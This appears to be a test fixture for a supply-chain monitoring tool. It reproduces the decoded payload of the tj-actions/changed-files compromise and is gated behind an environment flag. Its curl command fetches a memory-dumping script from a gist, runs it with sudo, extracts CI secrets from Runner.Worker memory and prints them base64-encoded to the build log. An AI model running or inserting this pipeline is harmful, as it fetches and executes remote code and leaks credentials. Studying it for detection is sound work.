// The injected code of tj-actions/changed-files (StepSecurity, CVE-2025-30066), decoded: fetch
// memdump.py from a gist, run it with sudo python3 to dump the memory of Runner.Worker, keep the
// secrets ("isSecret":true) and print them base64 twice into the public build log. The gist is
// the loopback C2 here and what it serves lists no memory (test/live/c2-files/memdump.py).
if (process.env.SUPPLYWATCH_LIVE_CORPUS !== '1') process.exit(0);
const { execSync } = require('child_process');
if (process.platform === 'linux') {
  const out = execSync(`curl -sSf __C2@gist.githubusercontent.com__/nikitastupin/30e525b776c409e03c2d6f328f254965/raw/memdump.py | sudo python3 | tr -d '\\0' | grep -aoE '"[^"]+":\\{"value":"[^"]*","isSecret":true\\}' | sort -u | base64 -w 0 | base64 -w 0 || true`, { shell: '/bin/bash', encoding: 'utf8' });
  process.stdout.write(out + '\n');
}
